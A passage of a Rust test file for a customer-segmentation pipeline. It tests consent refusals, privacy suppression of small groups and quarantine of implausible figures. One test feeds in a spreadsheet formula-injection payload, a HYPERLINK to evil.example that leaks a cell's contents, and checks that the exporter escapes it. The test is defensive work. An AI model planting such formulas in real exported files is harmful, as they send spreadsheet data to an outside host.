            crm7["phone"].as_str()
        ),
        ("CEO", "download×1 +60", "+989121234567")
    );
    assert_eq!(crm7["fit"], fit("C-1"));
    // C-3 and C-4 share the mobile: the first id, C-3, an intern (a form weighs ×0.5).
    let sara = lead("sara@x.ir");
    assert_eq!(
        (
            sara["job_title"].as_str(),
            sara["contributions"].as_str(),
            sara["fit"].as_str()
        ),
        ("Intern", "form_submit×1 +20", fit("C-3").as_str())
    );
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    let listed_leads: Vec<&str> = ideal
        .iter()
        .filter(|r| r["kind"] == "lead")
        .map(|r| r["id"].as_str())
        .collect();
    assert_eq!(listed_leads, ["CRM-9"]);
    for id in ["C-1", "C-3", "C-4"] {
        let row = ideal.iter().find(|r| r["id"] == id).expect(id);
        assert_eq!(row["kind"], "customer", "{id}");
    }
    assert_off_lists(&out, &["C-2", "CRM-8", "2222222"]);
}

#[test]
fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    // Job titles and cities typed into a web form.
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Job Title,City\n\
         C-1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",@SUM(1+1)\n\
         C-2,+CEO,-Tehran\n\
         C-3,CEO,Tehran\n",
    );
    let out = segment_curated(dir.path(), [sales, crm].concat());
    let customers = by_id(read_csv(&out.join("customers.csv")));
    let cells = |id: &str| {
        [
            customers[id]["job_title"].as_str(),
            customers[id]["main_city"].as_str(),
        ]
    };
    assert_eq!(
        cells("C-1"),
        [
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "'@SUM(1+1)"
        ]
    );
    assert_eq!(cells("C-2"), ["'+CEO", "'-Tehran"]);
    assert_eq!(cells("C-3"), ["CEO", "Tehran"]);
    // The Parquet file, for machines, keeps the text as it was.
    use arrow::array::AsArray;
    let batch = read_parquet(&out.join("customers.parquet"));
    let titles = batch.column_by_name("job_title").unwrap().as_string::<i32>();
    assert!(titles.iter().any(|t| t == Some("+CEO")));
}

/// Fewer purchasers than the minimum group size: the base's profile is withheld, and so is its
/// net revenue (5 customers' revenue to the cent), as every segment's revenue share is.
#[test]
fn a_withheld_base_publishes_no_revenue() {
    let dir = tempfile::tempdir().unwrap();
    let lines: Vec<Line> = (1..=5)
        .map(|i| {
            l(
                &format!("o{i}"),
                &format!("c{i}"),
                "2024-06-01",
                "p1",
                1.0,
                100.0 + i as f64,
            )
        })
        .collect();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let mut p = checked("2024-06-30", Some(2)).params().clone();
    p.min_group_size = 10;
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let segs = read_json(&out.join("segments.json"));
    let base = &segs["base"];
    assert_eq!(base["customers"], 5, "{segs:#}");
    assert_eq!(base["revenue"], Value::Null, "{segs:#}");
    assert!(
        base["profile"].as_object().unwrap().values().all(Value::is_null),
        "{segs:#}"
    );
    for s in segs["segments"].as_array().unwrap() {
        assert_eq!(s["revenue_share"], Value::Null, "{s:#}");
    }
    // The manifest is for operators: its totals stay.
    assert_eq!(run.manifest["inputs"]["net_revenue"], 515.0);
}

/// What is withheld names the setting that decides it; and when guests bring most of the
/// revenue, the manifest and the profile say that the outputs describe only the rest.
#[test]
fn suppression_names_its_setting_and_guest_heavy_shops_are_warned() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines: Vec<Line> = (1..=5)
        .map(|i| l(&format!("o{i}"), &format!("c{i}"), "2024-06-01", "p1", 1.0, 100.0))
        .collect();
    lines.push(l("g1", "", "2024-06-02", "p1", 1.0, 1500.0));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let mut p = checked("2024-06-30", Some(2)).params().clone();
    p.min_group_size = 10;
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    for row in read_csv(&out.join("segments.csv")) {
        if row["customers"] != "0" {
            assert_eq!(
                row["description"],
                "Fewer than 10 customers (SEGFLOW_MIN_GROUP_SIZE=10): figures suppressed.",
                "{row:?}"
            );
        }
    }
    let md = std::fs::read_to_string(out.join("ideal_customer_profile.md")).unwrap();
    assert!(
        md.contains("so nothing more is shown to protect their privacy (SEGFLOW_MIN_GROUP_SIZE=10)."),
        "{md}"
    );
    // Guests: 1500 of 2000.
    assert_eq!(run.manifest["inputs"]["guest_revenue_share"], 0.75);
    let warnings: Vec<&str> = run.manifest["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .collect();
    let guest = "Guests (orders without a customer id) brought 75% of net revenue: the segments, the ideal customer profile and the lists describe only the 25% from known customers.";
    assert!(warnings.contains(&guest), "{warnings:?}");
    assert!(md.contains(guest), "{md}");
}

/// Ingests CSV `text` as [`ingest_csv`] does, some of whose rows are quarantined: the curated
/// Parquet files, the report's row counts (checked to reconcile with the quarantine file) and
/// the quarantine lines.
fn ingest_csv_quarantining(
    dir: &Path,
    dataset: crate::schema::Dataset,
    name: &str,
    text: &str,
) -> (
    Vec<PathBuf>,
    crate::ingest::report::RowCounts,
    Vec<serde_json::Value>,
) {
    let folder = dir.join(dataset.name());
    std::fs::create_dir_all(&folder).unwrap();
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    let src = crate::ingest::SourceRef {
        bucket: None,
        key: format!("incoming/{}/{name}", dataset.name()),
        etag: Some("e".into()),
        version_id: None,
        size: text.len() as u64,
    };
    let opts = crate::ingest::IngestOptions {
        dataset: Some(dataset),
        ..Default::default()
    };
    let staging = dir.join(format!("staging-{name}"));
    std::fs::create_dir_all(&staging).unwrap();
    let out = crate::ingest::ingest_file(&path, src, &opts, &staging).unwrap();
    let rows = out.report.rows.clone();
    assert_eq!(
        rows.read,
        rows.written + rows.rejected,
        "{name}: rows must reconcile"
    );
    let quarantined: Vec<serde_json::Value> = out
        .files
        .iter()
        .filter(|f| f.key.starts_with("quarantine/"))
        .flat_map(|f| {
            std::fs::read_to_string(&f.path)
                .unwrap()
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(
        quarantined.len() as u64,
        rows.rejected,
        "{name}: one quarantine line per rejected row"
    );
    let written: u64 = out
        .files
        .iter()
        .filter(|f| f.key.starts_with(&format!("curated/{}/", dataset.name())))
        .map(|f| f.rows)
        .sum();
    assert_eq!(
        written, rows.written,
        "{name}: rows written are the dataset's Parquet rows"
    );
    let files = out
        .files
        .into_iter()
        .filter(|f| f.key.ends_with(".parquet"))
        .map(|f| f.path)
        .collect();
    (files, rows, quarantined)
}

/// The lines of quarantine lines that say their refusal was kept.
fn refusals_kept(quarantined: &[serde_json::Value]) -> Vec<u64> {
    quarantined
        .iter()
        .filter(|q| q["refusal_kept"] == true)
        .map(|q| q["line"].as_u64().unwrap())
        .collect()
}

/// An unsubscribe counts whatever its date, also one whose date is missing, `n/a` or no date at
/// all: the row is quarantined (its time cannot be read) and counted as rejected, but the
/// refusal stays, and the customer is off every list. A page view quarantined the same way
/// refuses nothing, and a contact's two dateless refusals are no duplicate events.
#[test]
fn an_unsubscribe_whose_date_cannot_be_read_keeps_the_customer_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let sales = four_buyers(dir.path());
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Accepts Marketing\n\
         C-1,c1@x.example,yes\nC-2,c2@x.example,yes\nC-3,c3@x.example,yes\nC-4,c4@x.example,yes\n",
    );
    let (activity, rows, quarantined) = ingest_csv_quarantining(
        dir.path(),
        crate::schema::Dataset::Activity,
        "events.csv",
        "Email,Activity Type,Timestamp\n\
         c1@x.example,Unsubscribe,\n\
         C2@X.example,Unsubscribe,n/a\n\
         c3@x.example,Unsubscribe,31/31/2023\n\
         c4@x.example,Page View,n/a\n\
         ,Unsubscribe,n/a\n\
         c4@x.example,Page View,2024-06-01 10:00\n\
         c1@x.example,Unsubscribe,not a date\n",
    );
    assert_eq!((rows.read, rows.written, rows.rejected), (7, 1, 6));
    assert_eq!(rows.refusals_kept, 4);
    assert_eq!(refusals_kept(&quarantined), [2, 3, 4, 8]);
    let reasons: Vec<&str> = quarantined
        .iter()
        .map(|q| q["reason"].as_str().unwrap())
        .collect();
    assert_eq!(
        reasons,
        [
            "missing_date",
            "missing_date",
            "bad_date",
            "missing_date",
            "missing_contact",
            "bad_date"
        ]
    );
    let out = segment_curated(dir.path(), [sales, crm, activity].concat());
    assert_off_lists(&out, &["C-1", "c1@", "C-2", "c2@", "C-3", "c3@"]);
    let customers = by_id(read_csv(&out.join("customers.csv")));
    for id in ["C-1", "C-2", "C-3"] {
        assert_eq!(customers[id]["marketing_consent"], "false", "{id}");
    }
    assert_eq!(customers["C-4"]["marketing_consent"], "true");
    let ideal = read_csv(&out.join("ideal_customers.csv"));
    assert!(
        ideal.iter().any(|r| r["id"] == "C-4"),
        "the page view refused nothing"
    );
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["inputs"]["refusal_files"], 1);
    assert_eq!(manifest["inputs"]["refusals_read"], 4);
    assert_eq!(manifest["inputs"]["activity_events"], 1);
    assert_eq!(manifest["inputs"]["activity_duplicates_dropped"], 0);
}

/// A sales export's consent column: a "no" at checkout on a row quarantined for its amount or
/// its date still keeps the buyer off the lists (the customer list's older "yes" does not
/// stand), as a "no" on a row that is read does. Only refusals are kept: a "yes" on a
/// quarantined row records no consent, and the walk-in account refuses for no one. A guest
/// checkout's refusal is kept under its email.
#[test]
fn a_no_at_checkout_on_a_quarantined_row_keeps_the_buyer_off_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let crm = ingest_csv(
        dir.path(),
        crate::schema::Dataset::Customers,
        "crm.csv",
        "Customer ID,Email,Accepts Marketing\n\
         C-1,c1@x.example,yes\nC-2,c2@x.example,yes\nC-3,c3@x.example,yes\nC-4,c4@x.example,yes\n",
    );
    let (sales, rows, quarantined) = ingest_csv_quarantining(
        dir.path(),
        crate::schema::Dataset::Sales,
        "shop.csv",
        "Order Number,Order Date,Customer ID,Email,Accepts Marketing,Amount\n\
         1,2024-06-01,C-1,c1@x.example,yes,100\n\
         2,2024-06-02,C-2,c2@x.example,yes,50\n\
         3,2024-05-02,C-3,c3@x.example,yes,70\n\
         4,2024-04-02,C-4,c4@x.example,yes,20\n\
         5,2024-06-03,C-5,c5@x.example,,40\n\
         6,2024-06-04,C-1,c1@x.example,no,abc\n\
         7,31/31/2024,C-2,c2@x.example,no,10\n\
         8,2024-06-05,C-3,c3@x.example,no,15\n\
         9,2024-06-06,C-5,c5@x.example,yes,abc\n\
         10,2024-06-07,Walk-in Customer,,no,abc\n\
         11,2024-06-08,0,guest@x.example,no,abc\n",
    );
    assert_eq!((rows.read, rows.written, rows.rejected), (11, 6, 5));
    assert_eq!(rows.refusals_kept, 3);
    assert_eq!(refusals_kept(&quarantined), [7, 8, 12]);
    let refusals: Vec<PathBuf> = sales
        .iter()
        .filter(|p| p.to_string_lossy().contains("/curated/refusals/"))
        .cloned()
        .collect();
    let kept = crate::leads::read_activity(&refusals).unwrap();
    let kept: Vec<(&str, Option<&str>, &str, bool)> = kept
        .iter()
        .map(|a| {
            (
                a.contact.as_str(),
                a.email.as_deref(),
                a.event_type.as_str(),
                a.ts == crate::leads::UNDATED,
            )
        })
        .collect();
    assert_eq!(
        kept,
        [
            ("C-1", Some("c1@x.example"), "unsubscribe", true),
            ("C-2", Some("c2@x.example"), "unsubscribe", true),
            ("guest@x.example", Some("guest@x.example"), "unsubscribe", true),
        ]
    );
    let out = segment_curated(dir.path(), [crm, sales].concat());
    assert_off_lists(&out, &["C-1", "c1@", "C-2", "c2@", "C-3", "c3@", "guest@"]);
    let customers = by_id(read_csv(&out.join("customers.csv")));
    for id in ["C-1", "C-2", "C-3"] {
        assert_eq!(customers[id]["marketing_consent"], "false", "{id}");
    }
    assert_eq!(customers["C-4"]["marketing_consent"], "true");
    // The quarantined "yes" is no consent: C-5's stays unrecorded (`marketing_consent` is the
    // consent the lists obey).
    assert_eq!(customers["C-5"]["marketing_consent"], "");
}

/// The fuzz review's file: two lines of quantity 1e308 for one customer were read, and every
/// nightly k-means fit then failed on the infinite sum ("No inertia improvement (-inf)"); an
/// amount of 10^29 took all of the revenue. Ingest quarantines such lines (a Rial invoice of
/// 10^12 stays a sale) and segmentation runs.
#[test]
fn lines_of_implausible_size_are_quarantined_and_segmentation_runs() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("sales");
    std::fs::create_dir_all(&folder).unwrap();
    let csv = folder.join("two_huge_quantities.csv");
    std::fs::write(
        &csv,
        "InvoiceNo,Quantity,InvoiceDate,UnitPrice,CustomerID\n\
         1,1,2023-05-01,2,C1\n\
         2,1,2023-05-02,3,C2\n\
         3,1,2023-05-03,4,C3\n\
         4,2,2023-05-04,5,C4\n\
         5,1e308,2023-05-05,1,C5\n\
         6,1e308,2023-05-06,1,C5\n\
         7,1,2023-05-06,2,C6\n\
         8,1,2023-05-06,99999999999999999999999999999,C7\n\
         9,1,2023-05-06,999999999999,C8\n",
    )
    .unwrap();
    let src = crate::ingest::SourceRef {
        bucket: None,
        key: "incoming/sales/two_huge_quantities.csv".into(),
        etag: Some("e".into()),
        version_id: None,
        size: std::fs::metadata(&csv).unwrap().len(),
    };
    let staging = dir.path().join("staging");
    std::fs::create_dir_all(&staging).unwrap();
    let opts = crate::ingest::IngestOptions::default();
    let out = crate::ingest::ingest_file(&csv, src, &opts, &staging).unwrap();
    let rows = &out.report.rows;
    assert_eq!((rows.read, rows.written, rows.rejected), (9, 6, 3));
    assert_eq!(
        rows.rejected_by_reason,
        BTreeMap::from([("implausible_amount".to_string(), 3)])
    );
    assert_eq!(out.report.status, crate::ingest::report::Status::Partial);
    let quarantine = out.files.iter().find(|f| f.key.ends_with(".jsonl")).unwrap();
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&quarantine.path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let blamed: Vec<(u64, &str, &str)> = lines
        .iter()
        .map(|q| {
            (
                q["line"].as_u64().unwrap(),
                q["column"].as_str().unwrap(),
                q["value"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        blamed,
        [
            (6, "Quantity", "1e308"),
            (7, "Quantity", "1e308"),
            (9, "UnitPrice", "99999999999999999999999999999")
        ]
    );
    let curated: Vec<PathBuf> = out
        .files
        .iter()
        .filter(|f| f.key.starts_with("curated/sales/"))
        .map(|f| f.path.clone())
        .collect();
    let seg = dir.path().join("out");
    let run = run(
        &inputs(curated, vec![], None),
        &checked("2023-05-06", Some(2)),
        &seg,
    )
    .unwrap();
    assert_eq!(run.manifest["inputs"]["rows_used"], 6);
    let customers = by_id(read_csv(&seg.join("customers.csv")));
    assert!(!customers.contains_key("C5") && !customers.contains_key("C7"));
    assert_eq!(customers["C8"]["monetary"], "999999999999.00");
    assert!(customers.values().all(|c| !c["segment_id"].is_empty()));
}

/// Curated lines beyond the bound (ingested before it existed, or written by another tool) are
/// left out as unusable; sums that still overflow (a currency rate at the edge of what a float
/// holds) leave their customer without a segment and the run with a warning, never a failed fit.
#[test]
fn figures_too_large_to_cluster_never_fail_the_run() {
    let dir = tempfile::tempdir().unwrap();
    let d = "2024-06-01";
    let mut lines = vec![
        l("h1", "huge", d, "p1", 1e308, 1e308),
        l("h2", "huge", d, "p1", 1e308, 1e308),
        l("n1", "nan", d, "p1", 1.0, f64::NAN),
    ];
    lines.extend((1..=6).map(|i| l(&format!("o{i}"), &format!("c{i}"), d, "p1", 1.0, 10.0 * i as f64)));
    let sales = write_sales(dir.path(), "old.parquet", "s1", &lines);
    let out = dir.path().join("out1");
    let run1 = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    assert_eq!(run1.manifest["inputs"]["rows_unusable"], 3);
    assert!(!by_id(read_csv(&out.join("customers.csv"))).contains_key("huge"));

    // Each line is plausible in its own currency; the configured rate is not.
    let mut lines = vec![
        l("e1", "euro", d, "p1", 1.0, 1e14).in_currency("EUR"),
        l("e2", "euro", d, "p1", 1.0, 1e14).in_currency("EUR"),
    ];
    lines.extend((1..=6).map(|i| l(&format!("o{i}"), &format!("c{i}"), d, "p1", 1.0, 10.0 * i as f64)));
    let sales = write_sales(dir.path(), "rates.parquet", "s2", &lines);
    let out = dir.path().join("out2");
    let mut p = checked("2024-06-30", Some(2)).params().clone();
    p.currency_rates = parse_currency_rates("EUR=1e300,IRT=1").unwrap();
    let run2 = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let warnings = run2.manifest["warnings"].as_array().unwrap();
    assert!(
        warnings.iter().any(|w| w
            .as_str()
            .unwrap()
            .starts_with("1 customer has figures too large to compare")),
        "{warnings:?}"
    );
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["euro"]["segment_id"], "");
    assert!((1..=6).all(|i| !rows[&format!("c{i}")]["segment_id"].is_empty()));
}
